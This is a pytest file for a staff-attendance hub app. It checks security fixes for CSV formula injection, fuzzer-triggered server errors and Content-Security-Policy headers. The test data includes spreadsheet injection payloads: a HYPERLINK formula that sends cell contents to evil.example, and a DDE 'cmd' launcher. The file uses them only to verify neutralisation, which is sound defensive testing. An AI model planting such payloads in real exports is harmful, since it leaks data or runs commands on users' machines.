"""Issue 20, parts 2 and 3: what an attacker found over HTTP, on the real app and database.

Logins (parallel guesses, forwarded-for rotation, weak passwords, lock-outs
of the real user), phone activation (no staff-number enumeration, no SMS
lock-out by strangers), CSV formula injection, the fuzzer's 500s, /docs
without a CDN and a CSP on every page, and file permissions of the database
and its secrets.
"""

import csv
import io
import os
import re
import stat
import threading
from datetime import timedelta

import pytest
import yaml

from hub.accounts import passwords as dashboard_passwords
from hub.cli import main
from hub.db import utcnow
from hub.errors import InvalidInput
from hub.masterdata import employees
from hub.masterdata.fields import EmployeePatch
from tests.hub_api_kit import PASSWORD, HubApi, punch_record, seed_org
from tests.hub_db import any_engine  # noqa: F401  (fixture)

LOGIN = "/api/v1/auth/login"


@pytest.fixture
def hub(tmp_path, any_engine):
    api = HubApi(tmp_path, any_engine, auth={"max_failures_per_user": 5, "max_failures_per_address": 50},
                 security={"trusted_proxies": ["10.0.0.2"], "login_slowdown_after": 8, "login_slowdown_s": 2})
    with api.sessions.begin() as session:
        seed_org(session)
    yield api
    api.close()


# --- part 3: formula injection ------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_formula_injection_is_neutralised_in_every_csv_export(hub):
    with hub.sessions.begin() as session:
        employees.update_employee(session, "E001", EmployeePatch(name=HOSTILE_NAME))
        employees.update_employee(session, "E002", EmployeePatch(name="+cmd|' /C calc'!A0"))
        session.add_all([punch_record("E001", "S-PHC1", "09:40", "@SUM(1+1)*cmd"),
                         punch_record("E001", "S-PHC1", "17:50", "-2+3")])
    admin = hub.machine
    exports = {
        "daily": {"unit_id": "EDU", "date": "2026-04-07"},
        "exceptions": {"from": "2026-04-07", "to": "2026-04-07"},
        "muster": {"unit_id": "EDU", "month": "2026-04"},
        "payroll": {"ddo_id": "DDO-E", "month": "2026-04"},
        "employees/E001/history": {"from": "2026-04-06", "to": "2026-04-07"},
    }
    for path, params in exports.items():
        cells = [c for row in rows_of(admin.get(f"/api/v1/reports/{path}", params={**params, "format": "csv"}))
                 for c in row]
        dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-")]
        assert not dangerous, (path, dangerous)
        if path != "employees/E001/history":
            assert "'" + HOSTILE_NAME in cells, path
    assert "'+cmd|' /C calc'!A0" in [c for row in rows_of(admin.get(
        "/api/v1/reports/daily", params={"unit_id": "EDU", "date": "2026-04-07", "format": "csv"})) for c in row]


# --- part 3: the fuzzer's five 500s ---------------------------------------------------------------

@pytest.mark.parametrize("method, url, body", [
    ("get", f"/api/v1/audit?before_id={2 ** 70}", None),
    ("get", "/api/v1/punches?since=0001-01-01T00:00:00%2B05:30", None),
    ("post", "/api/v1/sites", {"site_id": "S-TZ", "name": "tz", "cutoff": "12:00:00+05:30"}),
    ("patch", "/api/v1/sites/S-PHC1", {"shift_start": "10:00:00-03:00"}),
    ("get", f"/api/v1/imports/employees/{2 ** 64 + 1}", None),
])
def test_the_fuzzers_cases_answer_4xx_with_a_reason(hub, method, url, body):
    client = hub.machine
    client.raise_server_exceptions = False
    response = getattr(client, method)(url, **({"json": body} if body is not None else {}))
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["detail"]


# --- part 3: /docs without a CDN, a CSP on every page --------------------------------------------------

def test_docs_load_only_local_assets_that_are_served(hub):
    client = hub.client()
    page = client.get("/docs")
    assert page.status_code == 200
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources and all(s.startswith("/") and not s.startswith("//") for s in sources), sources
    for source in sources:
        asset = client.get(source)
        assert asset.status_code == 200 and len(asset.content) > 100, source
    policy = page.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    script_src = re.search(r"script-src ([^;]+)", policy).group(1)
    assert "'unsafe-inline'" not in script_src and "'sha256-" in script_src
    assert client.get("/redoc").status_code == 404  # no CDN-only ReDoc


@pytest.mark.parametrize("path", [
    "/dashboard/", "/phone/", "/docs", "/openapi.json", "/api/v1/health", "/api/v1/auth/me", "/nowhere",
    "/dashboard/app.js",
])
def test_every_page_carries_a_content_security_policy(hub, path):
    response = hub.client().get(path)
    policy = response.headers.get("content-security-policy", "")
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy, (path, response.status_code)
    assert response.headers["x-content-type-options"] == "nosniff"
